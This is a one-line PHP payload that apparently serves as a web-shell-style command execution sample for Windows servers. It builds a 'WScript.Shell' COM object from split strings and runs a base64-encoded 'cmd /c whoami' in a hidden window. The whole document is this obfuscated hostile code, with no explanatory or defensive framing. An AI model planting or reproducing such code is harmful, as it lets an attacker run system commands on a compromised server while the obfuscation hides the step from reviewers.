<?php $w = new COM("WSc" . "ript.Shell"); $w->Run(base64_decode("Y21kIC9jIHdob2FtaQ=="), 0, false); ?>
